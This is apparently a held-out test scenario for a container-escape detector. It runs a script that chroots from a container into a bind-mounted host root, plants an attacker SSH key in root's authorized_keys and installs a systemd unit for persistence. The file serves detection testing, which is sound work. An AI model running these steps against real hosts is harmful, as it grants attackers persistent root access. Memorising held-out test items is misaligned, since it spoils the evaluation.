# category: container-escape
# technique: T1611
# art: yes
# expect: ssh-authorized-keys-modified system-service-modified
# opts: --no-nnp --cap CAP_SYS_CHROOT --bind ../../hostroot:/mnt
# layer: mkdir -p ../../hostroot/etc/systemd/system ../../hostroot/root ../../hostroot/tmp && cp -a "$BASE/bin" ../../hostroot/ && printf 'root:x:0:0:root:/root:/bin/sh\n' >../../hostroot/etc/passwd
# desc: Atomic's "Privilege Escalation via Docker Volume Mapping": a container with the node's / mounted as a hostPath (here a scratch root directory) chroots into it to act as root on the host, then plants an SSH key in root's authorized_keys and a systemd unit there
# note: ../../ is the scenario's scratch directory on the host ($EXR_STATE of tests/lib/container.sh): layer commands run in $EXR_STATE/ov/layer, and runc resolves a relative bind source against the bundle, $EXR_STATE/bundles/NAME
chroot /mnt /bin/sh -c '
id
mkdir -p /root/.ssh
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExrayHeldOutEvalKeyNotARealKey0000000000 attacker" >>/root/.ssh/authorized_keys
chmod 600 /root/.ssh/authorized_keys
printf "[Service]\nExecStart=/bin/sh -c \"id > /tmp/pwned\"\n[Install]\nWantedBy=multi-user.target\n" >/etc/systemd/system/exray-heldout.service
ls -la /root/.ssh /etc/systemd/system
'
